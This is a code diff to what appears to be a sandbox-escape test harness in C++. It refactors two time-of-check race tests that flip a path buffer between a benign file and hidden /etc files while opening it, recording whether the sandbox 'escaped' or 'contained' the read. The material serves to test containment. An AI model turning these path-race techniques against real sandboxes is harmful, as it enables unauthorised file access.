@@ -10,13 +10,11 @@
 #include <sys/syscall.h>
 #include <unistd.h>
 
-#include <atomic>
 #include <cerrno>
 #include <cstring>
 #include <fstream>
 #include <functional>
 #include <sstream>
-#include <thread>
 #include <vector>
 
 #include "attack.h"
@@ -296,32 +294,26 @@ Outcome PivotRoot(const Context&) {
 // file never was (then there was no race to speak of).
 Outcome RaceReads(const std::function<void(std::size_t)>& flip,
                   const std::vector<const char*>& paths, bool need_benign) {
-  std::atomic<bool> stop{false};
-  std::atomic<long> flips{0};
-  std::thread flipper([&] {
-    for (std::size_t i = 0; !stop.load(std::memory_order_relaxed); ++i) {
-      flip(i);
-      flips.fetch_add(1, std::memory_order_relaxed);
-    }
-  });
-  long long deadline = NowMs() + 2000;
-  long opens = 0, benign_reads = 0;
+  long opens = 0, benign_reads = 0, flips = 0;
   std::string escaped_detail;
-  while (NowMs() < deadline && escaped_detail.empty()) {
-    for (const char* p : paths) {
-      std::string got;
-      ++opens;
-      if (ReadsSecret(AT_FDCWD, p, &got)) {
-        escaped_detail = got;
-        break;
+  {
+    Flipper flipper([&](long i) { flip(static_cast<std::size_t>(i)); });
+    const long long deadline = NowMs() + 2000;
+    while (NowMs() < deadline && escaped_detail.empty()) {
+      for (const char* p : paths) {
+        std::string got;
+        ++opens;
+        if (ReadsSecret(AT_FDCWD, p, &got)) {
+          escaped_detail = got;
+          break;
+        }
+        if (got == "read non-secret data") ++benign_reads;
       }
-      if (got == "read non-secret data") ++benign_reads;
     }
+    flips = flipper.flips();
   }
-  stop = true;
-  flipper.join();
   std::string detail = std::to_string(opens) + " opens, " + std::to_string(benign_reads) +
-                       " benign reads, " + std::to_string(flips.load()) + " flips in 2 s";
+                       " benign reads, " + std::to_string(flips) + " flips in 2 s";
   if (!escaped_detail.empty()) return Escaped(detail + ": " + escaped_detail);
   if (need_benign && benign_reads == 0) return Escaped(detail + ": the benign file was never read (no race)");
   return Contained(detail);
@@ -394,33 +386,30 @@ Outcome HiddenFileOpathFlip(const Context&) {
   const std::string benign = "/tmp/vsec-benign";
   const std::string hidden[] = {"/etc/vsec-hidden", "/tmp/../etc/vsec-hidden", "/etc/./vsec-hidden"};
   std::snprintf(path, kLen, "%s", benign.c_str());
-  std::atomic<bool> stop{false};
-  std::thread flipper([&] {
-    for (std::size_t i = 0; !stop.load(std::memory_order_relaxed); ++i) {
+  long opens = 0, benign_opens = 0;
+  std::string escaped;
+  {
+    Flipper flipper([&](long i) {
       const std::string& h = hidden[i % 3];
       std::memcpy(path, h.c_str(), h.size() + 1);
       std::memcpy(path, benign.c_str(), benign.size() + 1);
-    }
-  });
-  long long deadline = NowMs() + 2000;
-  long opens = 0, benign_opens = 0;
-  std::string escaped;
-  while (NowMs() < deadline && escaped.empty()) {
-    ++opens;
-    const long fd = ::syscall(SYS_openat, AT_FDCWD, path, O_PATH | O_CLOEXEC);
-    if (fd < 0) continue;
-    struct stat st {};
-    if (::fstat(static_cast<int>(fd), &st) == 0) {
-      if (st.st_ino == benign_st.st_ino && st.st_dev == benign_st.st_dev) {
-        ++benign_opens;
-      } else {
-        escaped = "an O_PATH descriptor of another file (size " + std::to_string(st.st_size) + ")";
+    });
+    const long long deadline = NowMs() + 2000;
+    while (NowMs() < deadline && escaped.empty()) {
+      ++opens;
+      const long fd = ::syscall(SYS_openat, AT_FDCWD, path, O_PATH | O_CLOEXEC);
+      if (fd < 0) continue;
+      struct stat st {};
+      if (::fstat(static_cast<int>(fd), &st) == 0) {
+        if (st.st_ino == benign_st.st_ino && st.st_dev == benign_st.st_dev) {
+          ++benign_opens;
+        } else {
+          escaped = "an O_PATH descriptor of another file (size " + std::to_string(st.st_size) + ")";
+        }
       }
+      ::close(static_cast<int>(fd));
     }
-    ::close(static_cast<int>(fd));
   }
-  stop = true;
-  flipper.join();
   std::string detail = std::to_string(opens) + " O_PATH opens, " + std::to_string(benign_opens) +
                        " of the benign file in 2 s";
   if (!escaped.empty()) return Escaped(detail + ": " + escaped);
